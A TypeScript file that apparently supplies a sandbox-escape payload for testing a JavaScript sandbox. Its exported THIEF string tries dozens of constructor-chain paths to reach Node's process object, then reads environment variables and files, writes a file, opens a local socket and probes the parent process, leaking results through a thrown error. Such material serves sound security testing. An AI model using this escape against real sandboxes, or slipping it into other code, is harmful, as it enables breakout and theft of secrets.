import { LOOT } from "./bait";

/**
 * Code for attacks: `seek(objects)` looks for the process by every road that leads from them; `loot(what)` tells the world what was
 * found, by every channel at once. Finding nothing is no error: the program works on.
 */
export const THIEF = `
const late: any[] = [];
function seek(from: any[]): void {
  const code = "return typeof process === 'object' && process !== null ? process : undefined";
  const makers: any[] = [];
  const find = (way: () => any) => { try { const got = way(); if (typeof got === "function" && !makers.includes(got)) makers[makers.length] = got; } catch {} };
  for (const each of from) {
    find(() => each);
    find(() => each.constructor);
    find(() => each.constructor.constructor);
    find(() => Object.getPrototypeOf(each).constructor);
    find(() => Object.getPrototypeOf(each).constructor.constructor);
    find(() => Object.getPrototypeOf(Object.getPrototypeOf(each)).constructor.constructor);
    find(() => each.__proto__.constructor.constructor);
    find(() => each.then.constructor);
    find(() => each.toString.constructor);
    find(() => each.valueOf.constructor);
    find(() => each.call.constructor);
    find(() => Object.getOwnPropertyDescriptor(each, "constructor")!.value.constructor);
    find(() => Reflect.getPrototypeOf(each)!.constructor.constructor);
  }
  for (const maker of makers) {
    const seen = (got: any): void => {
      if (got === undefined || got === null) return;
      if (typeof got.then === "function") { got.then((it: any) => { late[late.length] = it; }, () => {}); return; }
      if (typeof got.next === "function") { seen(got.next().value); return; }
      if (typeof got === "object" && typeof got.pid === "number") late[late.length] = got;
    };
    const make = (way: () => any) => { try { seen(way()()); } catch {} };
    make(() => maker(code));
    make(() => new maker(code));
    make(() => Reflect.construct(maker, [code]));
    make(() => Reflect.apply(maker, undefined, [code]));
    make(() => maker.call(undefined, code));
    make(() => maker.apply(undefined, [code]));
    make(() => maker.bind(undefined, code)());
  }
  report();
}
/** Also what came later, by promises. */
function report(): void {
  if (late.length > 0) rob(late[0]);
}
function rob(process: any): never {
  const said: string[] = [];
  const attempt = (way: () => any) => { try { said[said.length] = String(way()); } catch (e) { said[said.length] = String(e); } };
  attempt(() => process.version);
  attempt(() => process.env["@variable@"]);
  const load = (name: string): any => (process.getBuiltinModule ?? process.mainModule.require)(name);
  attempt(() => load("fs").readFileSync("@file@", "utf8"));
  attempt(() => load("fs").writeFileSync("@folder@/touched", ""));
  attempt(() => load("net").connect(@port@, "127.0.0.1"));
  attempt(() => process.kill(process.ppid, 0));
  return loot(said.join(" "));
}
function loot(what: unknown): never {
  throw new Error("${LOOT}: " + String(what));
}
`;
